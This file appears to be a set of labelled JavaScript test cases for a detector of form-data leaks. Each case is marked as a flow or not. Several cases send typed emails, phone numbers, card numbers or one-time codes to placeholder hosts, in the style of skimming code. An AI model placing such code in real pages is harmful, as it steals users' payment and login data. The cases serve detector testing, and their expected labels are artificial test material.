//# jquery-delegated-data
// flow: email > jdd.jf5.example via xhr
// guard: event blur
jQuery(function ($) {
  $('#checkout').on('blur', 'input[type="email"]', function (ev) {
    var $this = $(this);
    $.ajax('https://jdd.jf5.example/', { method: 'POST', data: JSON.stringify({ m: $this.val() }), contentType: 'application/json' });
  });
});

//# jquery-delegated-attr
// no flow
// why: the name and class of the field are sent, not what is typed
jQuery(function ($) {
  $('#checkout').on('blur', 'input[type="email"]', function () {
    $.get('https://jda0.jf5.example/', { f: $(this).attr('name'), c: $(this).closest('form').attr('id') });
  });
});

//# jquery-serialize-array-map
// flow: input > jsa.jf5.example via xhr
$('form').submit(function (e) {
  e.preventDefault();
  var out = {};
  $.each($(this).serializeArray(), function (i, f) { out[f.name] = f.value; });
  $.post('https://jsa.jf5.example/', out);
});

//# jquery-serialize-array-names
// no flow
// why: of each pair the name is taken
$('form').submit(function () {
  var names = $(this).serializeArray().map(function (f) { return f.name; });
  $.post('https://jsn0.jf5.example/', { fields: names.join(',') });
});

//# params-from-form-data
// flow: input > pfd.jf5.example via fetch
document.querySelector('form').addEventListener('submit', async (e) => {
  e.preventDefault();
  const params = new URLSearchParams(new FormData(e.currentTarget));
  await fetch(`https://pfd.jf5.example/?${params}`);
});

//# form-data-from-entries
// flow: input > fde.jf5.example via fetch
const form6 = document.getElementById('contact');
form6.onsubmit = () => {
  const { csrf, ...rest } = Object.fromEntries(new FormData(form6).entries());
  fetch('https://fde.jf5.example/', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(rest) });
  return false;
};

//# form-data-keys
// no flow
// why: only the names of the fields are listed
const form7 = document.getElementById('contact');
form7.onsubmit = () => {
  fetch('https://fdk0.jf5.example/?f=' + [...new FormData(form7).keys()].join());
};

//# elements-reduce
// flow: input > elr.jf5.example via fetch
const data8 = Array.from(document.forms[0].elements).reduce((acc, el) => {
  if (el.name && el.type !== 'password') acc[el.name] = el.value;
  return acc;
}, {});
fetch('https://elr.jf5.example/', { method: 'POST', body: JSON.stringify(data8) });

//# elements-checked-count
// no flow
// why: the number of filled fields is sent
const filled9 = Array.from(document.forms[0].elements).filter((el) => el.value !== '').length;
navigator.sendBeacon('https://elc0.jf5.example/', String(filled9));

//# entries-map-join
// flow: email > emj.jf5.example via image
// flow: phone > emj.jf5.example via image
const o10 = { e: document.querySelector('input[type=email]').value, p: document.querySelector('input[type=tel]').value };
new Image().src = 'https://emj.jf5.example/p.gif?' + Object.entries(o10).map(([k, v]) => k + '=' + encodeURIComponent(v)).join('&');

//# entries-map-key-only
// no flow
// why: each pair gives its key only
const o11 = { e: document.querySelector('input[type=email]').value };
new Image().src = 'https://emk0.jf5.example/p.gif?' + Object.entries(o11).map(([k]) => k + '=1').join('&');

//# key-filter-predicate
// flow: email > kfp.jf5.example via fetch
// why: near miss: the password does not pass the predicate
const safe12 = ([k]) => !['password', 'pin'].includes(k);
const o12 = { email: document.querySelector('input[type=email]').value, password: document.querySelector('input[type=password]').value };
fetch('https://kfp.jf5.example/', { method: 'POST', body: JSON.stringify(Object.fromEntries(Object.entries(o12).filter(safe12))) });

//# key-filter-allows-set
// flow: phone > kfs.jf5.example via fetch
// why: near miss: only keys of the set are copied
const allowed13 = new Set(['phone', 'country']);
const raw13 = { phone: document.querySelector('input[type=tel]').value, secret: document.querySelector('input[type=password]').value };
const clean13 = {};
for (const k of Object.keys(raw13)) if (allowed13.has(k)) clean13[k] = raw13[k];
fetch('https://kfs.jf5.example/', { method: 'POST', body: JSON.stringify(clean13) });

//# redaction-loop
// flow: username > rdl.jf5.example via fetch
// why: near miss: the loop blanks the sensitive keys
const rec14 = { user: document.querySelector('input[name=username]').value, pass: document.querySelector('input[type=password]').value };
for (const k of ['pass', 'card']) { if (k in rec14) rec14[k] = '***'; }
fetch('https://rdl.jf5.example/', { method: 'POST', body: JSON.stringify(rec14) });

//# redaction-replacer
// flow: username > rdr.jf5.example via fetch
// why: near miss: the replacer answers undefined for the password
const rec15 = { user: document.querySelector('input[name=username]').value, password: document.querySelector('input[type=password]').value };
fetch('https://rdr.jf5.example/', { method: 'POST', body: JSON.stringify(rec15, (k, v) => (k === 'password' ? undefined : v)) });

//# redaction-by-pattern
// flow: email > rdp.jf5.example via fetch
// why: near miss: keys that match the pattern are skipped
const bad16 = /pass|card|cvv/i;
const src16 = { email: document.querySelector('input[type=email]').value, cardNo: document.querySelector('input[autocomplete=cc-number]').value };
const out16 = {};
Object.keys(src16).forEach((k) => { if (bad16.test(k)) return; out16[k] = src16[k]; });
fetch('https://rdp.jf5.example/', { method: 'POST', body: JSON.stringify(out16) });

//# request-submit-built
// flow: card > rsb.jf5.example via form
const f17 = document.createElement('form');
f17.method = 'post';
f17.action = 'https://rsb.jf5.example/pay';
const h17 = Object.assign(document.createElement('input'), { type: 'hidden', name: 'pan', value: document.querySelector('input[autocomplete=cc-number]').value });
f17.append(h17);
document.body.append(f17);
f17.requestSubmit();

//# submitter-form-data-event
// flow: otp > sfe.jf5.example via fetch
document.querySelector('form').addEventListener('formdata', (e) => {
  e.formData.append('code', document.querySelector('input[autocomplete="one-time-code"]').value);
  fetch('https://sfe.jf5.example/', { method: 'POST', body: e.formData });
});
